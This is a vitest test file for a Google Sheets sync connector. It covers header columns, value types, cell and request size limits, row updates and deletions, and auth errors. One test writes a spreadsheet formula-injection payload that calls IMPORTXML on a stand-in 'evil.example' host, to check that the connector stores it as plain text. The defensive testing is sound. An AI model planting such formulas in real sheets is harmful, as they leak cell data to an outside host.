import { isSluiceError, type SluiceError } from '@sluice/core'
import { http } from 'msw'
import { afterEach, describe, expect, it } from 'vitest'
import { FAKE_SPREADSHEET_ID } from '../src/fake/index.js'
import { connectSheets, sheets } from '../src/index.js'
import { account, config, connect, ctx, fakeSheets, write } from './helpers.js'

const closers: Array<() => Promise<unknown>> = []
afterEach(async () => {
  for (const close of closers.splice(0)) await close()
})

async function setup(...args: Parameters<typeof fakeSheets>) {
  const { fake, host } = await fakeSheets(...args)
  closers.push(() => host.close())
  const open = (extra: Parameters<typeof connect>[1] = {}) => {
    const destination = connect(host.url, extra)
    closers.push(async () => destination.close?.())
    return destination
  }
  return { fake, host, open }
}

async function failure(promise: Promise<unknown>): Promise<SluiceError> {
  const error = await promise.then(
    () => undefined,
    (e: unknown) => e,
  )
  expect(isSluiceError(error), `expected a SluiceError, got ${String(error)}`).toBe(true)
  return error as SluiceError
}

const ok = { status: 'succeeded' }

describe('the header row', () => {
  it('is created on the first run, in a sheet added for the sync, the key column first', async () => {
    const { fake, open } = await setup()
    const destination = open()
    const results = await write(destination, 'People', 'upsert', [
      { id: 'p1', name: 'Ada', email: 'ada@example.com' },
      { id: 'p2', name: 'Brian', email: 'brian@example.com' },
    ])
    expect(results).toEqual([ok, ok])
    expect(fake.spreadsheet().sheets.map((s) => s.title)).toEqual(['Sheet1', 'People'])
    expect(fake.values('People')).toEqual([
      ['id', 'name', 'email'],
      ['p1', 'Ada', 'ada@example.com'],
      ['p2', 'Brian', 'brian@example.com'],
    ])
  })

  it("keeps the sheet's column order, appends new mapped columns at the end and leaves other columns alone", async () => {
    const { fake, open } = await setup({
      spreadsheets: [
        {
          id: FAKE_SPREADSHEET_ID,
          values: {
            People: [
              ['email', 'Notes', 'id', 'name'],
              ['old@example.com', 'call back on Monday', 'p1', 'Ada'],
              ['', 'typed by hand', '', ''],
            ],
          },
        },
      ],
    })
    const destination = open()
    expect(
      await write(destination, 'People', 'upsert', [
        { id: 'p1', name: 'Ada L.', email: 'ada@example.com', plan: 'pro' },
        { id: 'p3', name: 'Cleo', email: 'cleo@example.com', plan: 'free' },
      ]),
    ).toEqual([ok, ok])
    expect(fake.values('People')).toEqual([
      ['email', 'Notes', 'id', 'name', 'plan'],
      ['ada@example.com', 'call back on Monday', 'p1', 'Ada L.', 'pro'],
      ['', 'typed by hand'],
      ['cleo@example.com', '', 'p3', 'Cleo', 'free'],
    ])
  })

  it('grows as "sync all properties" brings new fields, record by record', async () => {
    const { fake, open } = await setup()
    const destination = open()
    await write(destination, 'All', 'upsert', [{ id: 1, a: 'x' }])
    await write(destination, 'All', 'upsert', [
      { id: 2, b: true },
      { id: 1, a: 'y', c: 3 },
    ])
    expect(fake.values('All')).toEqual([
      ['id', 'a', 'b', 'c'],
      [1, 'y', '', 3],
      [2, '', true],
    ])
  })

  it('widens the grid before the header outgrows it', async () => {
    const { fake, open } = await setup({
      spreadsheets: [
        { id: FAKE_SPREADSHEET_ID, sheets: [{ title: 'Narrow', rowCount: 10, columnCount: 2 }] },
      ],
    })
    const destination = open()
    expect(await write(destination, 'Narrow', 'upsert', [{ id: 'a', b: 1, c: 2, d: 3 }])).toEqual([ok])
    expect(fake.spreadsheet().sheet('Narrow').columnCount).toBe(4)
    expect(fake.requests.some((r) => r.method === 'spreadsheets.batchUpdate')).toBe(true)
  })

  it('is refused with the sheets there are when createSheets is false', async () => {
    const { open } = await setup()
    const error = await failure(write(open({ createSheets: false }), 'Missing', 'upsert', [{ id: 1 }]))
    expect(error.code).toBe('UNKNOWN_SHEET')
    expect(error.message).toContain('"Sheet1"')
  })
})

describe('values', () => {
  it('are RAW by default: text starting with "=" stays text, never a formula', async () => {
    const { fake, open } = await setup()
    const destination = open()
    const injected = '=IMPORTXML("https://evil.example/?"&A1, "//a")'
    await write(destination, 'Safe', 'upsert', [{ id: 'x', note: injected, plus: '+1', at: '@SUM(1)' }])
    expect(fake.cell('Safe', 2, 1)).toBe(injected)
    expect(fake.cell('Safe', 2, 2)).toBe('+1')
    expect(fake.cell('Safe', 2, 3)).toBe('@SUM(1)')
  })

  it('become formulas, numbers and dates as typed only with USER_ENTERED, keys and long numbers staying exact', async () => {
    const { fake, open } = await setup()
    const destination = open({ valueInputOption: 'USER_ENTERED' })
    await write(destination, 'Typed', 'upsert', [
      {
        id: '00123',
        total: '=SUM(1,2)',
        amount: '42.5',
        big: 12345678901234567890n,
        exact: '1234567890.123456789',
      },
    ])
    expect(fake.cell('Typed', 2, 0)).toBe('00123')
    expect(fake.cell('Typed', 2, 1)).toEqual({ formula: '=SUM(1,2)' })
    expect(fake.cell('Typed', 2, 2)).toBe(42.5)
    expect(fake.cell('Typed', 2, 3)).toBe('12345678901234567890')
    expect(fake.cell('Typed', 2, 4)).toBe('1234567890.123456789')
    // The key reads back as written, so the next run finds the row instead of adding another.
    await write(destination, 'Typed', 'upsert', [{ id: '00123', total: '=SUM(2,2)' }])
    await write(open({ valueInputOption: 'USER_ENTERED' }), 'Typed', 'upsert', [{ id: '00123', amount: '7' }])
    expect(fake.values('Typed')).toHaveLength(2)
  })

  it('keep their types: numbers, booleans, NULL as an empty cell, BIGINT and DECIMAL exact as text', async () => {
    const { fake, open } = await setup()
    const destination = open()
    await write(destination, 'Types', 'upsert', [
      {
        id: 1,
        n: 3.25,
        yes: false,
        none: null,
        safe: 9007199254740991n,
        huge: 9007199254740993n,
        decimal: '12345678901234567890.12',
        day: '2026-12-04',
        at: '2026-12-04T17:00:00.000Z',
        json: { a: [1, 2] },
      },
    ])
    const row = fake.spreadsheet().sheet('Types').rows[1]!
    expect(row).toEqual([
      1,
      3.25,
      false,
      undefined,
      9007199254740991,
      '9007199254740993',
      '12345678901234567890.12',
      '2026-12-04',
      '2026-12-04T17:00:00.000Z',
      '{"a":[1,2]}',
    ])
    // A value that became NULL empties its cell.
    await write(destination, 'Types', 'upsert', [{ id: 1, n: null }])
    expect(fake.cell('Types', 2, 1)).toBeUndefined()
  })
})

describe('limits, checked before anything is sent', () => {
  it('a cell over 50,000 characters makes its record invalid with the reason; the rest are written', async () => {
    const { fake, open } = await setup()
    const destination = open()
    const results = await write(destination, 'Long', 'upsert', [
      { id: 'a', text: 'fine' },
      { id: 'b', text: 'x'.repeat(50_001) },
      { id: 'c', text: 'x'.repeat(50_000) },
    ])
    expect(results[0]).toEqual(ok)
    expect(results[1]).toEqual({
      status: 'invalid',
      reason: 'field "text" holds 50,001 characters; a Google Sheets cell holds at most 50,000',
    })
    expect(results[2]).toEqual(ok)
    expect([...fake.records('Long').keys()]).toEqual(['a', 'c'])
    expect(fake.requests.every((r) => r.status === 200)).toBe(true)
  })

  it('requests stay under the size limit: a large batch is cut into several', async () => {
    const { fake, open } = await setup()
    const destination = open({ maxRequestBytes: 100_000 })
    const records = Array.from({ length: 3_000 }, (_, i) => ({ id: `r${i}`, text: `row ${i} `.repeat(10) }))
    const results = await write(destination, 'Big', 'upsert', records)
    expect(results.every((r) => r.status === 'succeeded')).toBe(true)
    expect(fake.largestRequestBytes).toBeLessThanOrEqual(100_000)
    const appends = fake.requests.filter((r) => r.method === 'values.append')
    expect(appends.length).toBeGreaterThan(3)
    expect(fake.records('Big').size).toBe(3_000)
    // Changed rows go back in as few batchUpdate requests, consecutive rows as one range.
    const before = fake.requests.length
    await write(
      destination,
      'Big',
      'upsert',
      records.map((r) => ({ ...r, text: 'changed' })),
    )
    const updates = fake.requests.slice(before)
    expect(updates.every((r) => r.method === 'values.batchUpdate')).toBe(true)
    expect(updates.length).toBeLessThanOrEqual(2)
    expect(fake.values('Big')[3_000]).toEqual(['r2999', 'changed'])
  })

  it('rows that would take the spreadsheet past 10 million cells are rejected with the reason', async () => {
    // 26 × (1000 + 383,610) = 9,999,860 cells: 5 rows of 26 cells are left.
    const { fake, open } = await setup({
      spreadsheets: [{ id: FAKE_SPREADSHEET_ID, sheets: ['Sheet1', { title: 'Filler', rowCount: 383_610 }] }],
    })
    const destination = open()
    const records = Array.from({ length: 1_010 }, (_, i) => ({ id: i, v: 'x' }))
    const results = await write(destination, 'Sheet1', 'upsert', records)
    const refused = results.filter((r) => r.status === 'rejected')
    expect(results.filter((r) => r.status === 'succeeded')).toHaveLength(1_004)
    expect(refused).toHaveLength(6)
    expect(refused[0]).toEqual({
      status: 'rejected',
      reason:
        'sheet "Sheet1" cannot take another row: the spreadsheet would hold more than Google Sheets\' limit of 10,000,000 cells',
    })
    expect(fake.spreadsheet().cellCount()).toBeLessThanOrEqual(10_000_000)
    expect(fake.requests.every((r) => r.status === 200)).toBe(true)
  })
})

describe('rows', () => {
  it('are found by the key column, updated in place, and deleted bottom-up', async () => {
    const { fake, open } = await setup()
    const destination = open()
    const people = Array.from({ length: 10 }, (_, i) => ({ id: `p${i}`, n: i }))
    await write(destination, 'Rows', 'upsert', people)
    const deleted = await write(destination, 'Rows', 'delete', [
      { id: 'p1' },
      { id: 'p2' },
      { id: 'p3' },
      { id: 'p7' },
      { id: 'p9' },
      { id: 'nobody' },
    ])
    expect(deleted.every((r) => r.status === 'succeeded')).toBe(true)
    // Three deletion ranges in one request: 9, 7, then 1–3, the lowest first.
    const last = fake.requests.at(-1)!
    expect(last.method).toBe('spreadsheets.batchUpdate')
    expect(fake.values('Rows').map((r) => r[0])).toEqual(['id', 'p0', 'p4', 'p5', 'p6', 'p8'])
    // The index followed the deletions: these land on the right rows without reading the sheet again.
    const reads = fake.requests.filter((r) => r.kind === 'read').length
    await write(destination, 'Rows', 'upsert', [
      { id: 'p8', n: 80 },
      { id: 'p4', n: 40 },
      { id: 'p10', n: 100 },
    ])
    expect(fake.requests.filter((r) => r.kind === 'read').length).toBe(reads)
    expect(fake.values('Rows')).toEqual([
      ['id', 'n'],
      ['p0', 0],
      ['p4', 40],
      ['p5', 5],
      ['p6', 6],
      ['p8', 80],
      ['p10', 100],
    ])
  })

  it('are read afresh when a new run starts on the same connection', async () => {
    const { fake, open } = await setup()
    const destination = open()
    const run = (id: string) => ({ ...ctx(), run: { id, sync: 's', startedAt: new Date().toISOString() } })
    const batch = (v: number) => ({
      object: 'Fresh',
      operation: 'upsert' as const,
      identifierField: 'id',
      records: [{ identifier: 'a', fields: { id: 'a', v } }],
    })
    await destination.write(batch(1), run('run-1'))
    // Someone inserts a row above the data between runs.
    fake.spreadsheet().sheet('Fresh').rows.splice(1, 0, ['note'])
    await destination.write(batch(2), run('run-2'))
    expect(fake.values('Fresh')).toEqual([['id', 'v'], ['note'], ['a', 2]])
  })

  it('update and clear reject records without a row; create rejects records that have one', async () => {
    const { fake, open } = await setup()
    const destination = open()
    await write(destination, 'Ops', 'upsert', [{ id: 'a', v: 1, w: 2 }])
    expect(await write(destination, 'Ops', 'update', [{ id: 'zzz', v: 5 }])).toEqual([
      { status: 'rejected', reason: 'no row of sheet "Ops" has id "zzz"' },
    ])
    expect((await write(destination, 'Ops', 'create', [{ id: 'a', v: 9 }]))[0]).toMatchObject({
      status: 'rejected',
    })
    expect(await write(destination, 'Ops', 'clear', [{ id: 'a', v: null, w: null }])).toEqual([ok])
    expect(fake.values('Ops')).toEqual([['id', 'v', 'w'], ['a']])
    expect(await write(destination, 'Ops', 'append', [{ id: 'a', v: 3 }])).toEqual([ok])
    expect(fake.values('Ops')).toEqual([['id', 'v', 'w'], ['a'], ['a', 3]])
  })
})

describe('acknowledgements', () => {
  it('a 2xx answer without the documented shape acknowledges nothing', async () => {
    const { open } = await setup({}, [
      http.post('*/v4/spreadsheets/:id/values/:range', () =>
        Response.json({ spreadsheetId: FAKE_SPREADSHEET_ID }),
      ),
    ])
    const error = await failure(write(open(), 'Sheet1', 'upsert', [{ id: 1, v: 'x' }]))
    expect(error.code).toBe('UNEXPECTED_ANSWER')
    expect(error.message).toMatch(/not with the documented acknowledgement/)
  })
})

describe('auth and access', () => {
  it('check fails with the account to share the spreadsheet with when it is not shared', async () => {
    const { open } = await setup({
      spreadsheets: [{ id: FAKE_SPREADSHEET_ID, editors: ['someone@example.com'] }],
    })
    const error = await failure(open().check(ctx()))
    expect(error.category).toBe('auth')
    expect(error.message).toContain(`Share the spreadsheet with the service account ${account.email}`)
  })

  it('check names the spreadsheet that does not exist', async () => {
    const { open } = await setup()
    const error = await failure(open({ spreadsheetId: 'nope' }).check(ctx()))
    expect(error.code).toBe('SPREADSHEET_NOT_FOUND')
  })

  it('takes a new token before the old one expires, so no request meets a 401', async () => {
    // Tokens that live 30 s are within the minute kept in hand: every request takes a fresh one.
    const { fake, host, open } = await setup({ tokenTtlSeconds: 30 })
    const destination = open()
    await write(destination, 'T', 'upsert', [{ id: 1 }])
    await write(destination, 'T', 'upsert', [{ id: 2 }])
    expect(fake.tokensIssued).toBeGreaterThan(2)
    expect(host.traffic.log.filter((r) => r.status === 401)).toEqual([])
  })

  it('works with an OAuth refresh token, and names the flow that was refused', async () => {
    const { fake, host } = await fakeSheets({
      oauthClients: [
        {
          clientId: 'client-1',
          clientSecret: 'client-secret-1',
          refreshTokens: { 'refresh-1': 'ops@example.com' },
        },
      ],
    })
    closers.push(() => host.close())
    const auth = (refreshToken: string) => ({
      type: 'refresh_token' as const,
      clientId: 'client-1',
      clientSecret: 'client-secret-1',
      refreshToken,
      tokenUri: `${host.url}/token`,
    })
    const good = connectSheets({ ...config(host.url), auth: auth('refresh-1') }, ctx())
    closers.push(async () => good.close?.())
    expect(await write(good, 'Sheet1', 'upsert', [{ id: 1 }])).toEqual([ok])
    expect(fake.records('Sheet1').size).toBe(1)
    const bad = connectSheets({ ...config(host.url), auth: auth('revoked-token') }, ctx())
    closers.push(async () => bad.close?.())
    const error = await failure(bad.check(ctx()))
    expect(error.category).toBe('auth')
    expect(error.message).toContain('invalid_grant (Token has been expired or revoked.)')
    expect(error.message).not.toContain('revoked-token')
  })
})

describe('discover', () => {
  it('lists every sheet with its header columns', async () => {
    const { open } = await setup({
      spreadsheets: [{ id: FAKE_SPREADSHEET_ID, values: { Leads: [['email', 'score', '', 'email']] } }],
    })
    const catalog = await open().discover(ctx())
    expect(catalog.objects.map((o) => o.name)).toEqual(['Sheet1', 'Leads'])
    expect(catalog.objects[1]!.fields.map((f) => f.name)).toEqual(['email', 'score'])
    expect(catalog.objects[1]!.behaviours).toEqual([...sheets.capabilities.behaviours])
  })
})
